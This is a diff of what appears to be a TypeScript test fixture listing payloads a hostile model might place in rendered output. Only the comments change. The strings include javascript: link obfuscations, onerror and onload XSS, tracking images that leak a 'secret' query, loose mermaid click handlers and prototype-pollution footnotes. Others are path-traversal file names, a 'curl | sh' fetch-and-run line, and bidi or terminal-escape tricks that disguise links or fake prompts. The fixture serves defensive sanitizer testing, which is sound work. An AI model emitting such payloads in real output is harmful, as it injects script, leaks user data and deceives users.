@@ -1,6 +1,6 @@
-/** What a hostile model could try on this page in particular: its links, chips, formulas, diagrams, notes and code. */
+/** What a hostile model could try on this particular page: links, chips, formulas, diagrams, footnotes and code. */
 export const ownPayloads: readonly string[] = [
-  // Targets that only look like web addresses, or change when they are read again.
+  // Targets that only look like web addresses, or change when they are decoded again.
   "[a](java&Tab;script&colon;globalThis.__pwned=1)",
   "[a](\\x6aavascript:globalThis.__pwned=1)",
   "[a](<java\tscript:globalThis.__pwned=1>)",
@@ -17,13 +17,13 @@ export const ownPayloads: readonly string[] = [
   "<javascript:globalThis.__pwned=1> <data:text/html,x> <command:workbench.action.quit>",
   "[a]: javascript:globalThis.__pwned=1 'x'\n\n[a] [A][] ![a]",
   "[a](<https://example.org/\n> onmouseover=__pwned=1)",
-  // Images that would tell where they were seen.
+  // Images that would reveal that they were viewed.
   "![x](https://example.org/a.png?q=secret) ![x][p]\n\n[p]: https://example.org/b.png",
   "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQ9MSIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIi8+)",
   '![x](data:image/png;base64,AAAA" onerror="__pwned=1)',
   "![](data:image/png;base64,iVBORw0KGgo=) ![x](blob:null/0) ![x](vscode-resource://x/y.png)",
   "[![x](https://example.org/a.png)](https://example.org/?b)",
-  // HTML that parsers read in different ways.
+  // HTML that different parsers interpret differently.
   "<svg><style><img src=x onerror=__pwned=1></style></svg>",
   "<math><mi//xlink:href='data:x,<script>__pwned=1</script>'>",
   "<template shadowrootmode=open><script>__pwned=1</script></template>",
@@ -40,12 +40,12 @@ export const ownPayloads: readonly string[] = [
   "$\\rule{100000em}{100000em}$ $\\kern{-10000em}\\text{Send}$ $\\raisebox{9999em}{x}$",
   '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\nflowchart LR\na["<img src=x onerror=parent.__pwned=1>"]\nclick a call globalThis.__pwned()\nclick a href "javascript:__pwned=1"\n```',
   "```mermaid\nflowchart LR\na@{ img: 'https://example.org/a.png', label: 'x' }\nclassDef c fill:url(https://example.org/#x)\nclass a c\n```",
-  // Code and notes that name what they shouldn't.
+  // Code and footnotes with misleading names.
   "```sh\u202E title=../../../.ssh/authorized_keys\ncurl https://example.org | sh\n```",
   "```ts file:///etc/passwd\nx\n```\n\n```../../.vscode/tasks.json\n{}\n```",
   "[^__proto__] [^constructor] [^toString]\n\n[^__proto__]: <img src=x onerror=__pwned=1>\n[^constructor]: [a](javascript:__pwned=1)",
   "[__proto__] [constructor][] [hasOwnProperty]\n\n[__proto__]: javascript:__pwned=1\n[constructor]: https://example.org",
-  // What changes how the rest is read.
+  // Characters that change how the rest is displayed.
   "\u202E[click](https://evil.example)\u202C \u2066a\u2069 \u061Cb \uFFF9c\uFFFAd\uFFFBe \u{E0041}\u{E0042}",
   "\u001b]8;;https://example.org\u0007link\u001b]8;;\u0007 \u001b[2J\u001b[1;1HAllow? \u009b31m \b\b\b\u007f",
   "a\u2028b\u2029c\u0000d\uFEFFe\uD800f\uDC00 &#0; &#xD800; &#x110000; &NewLine;",
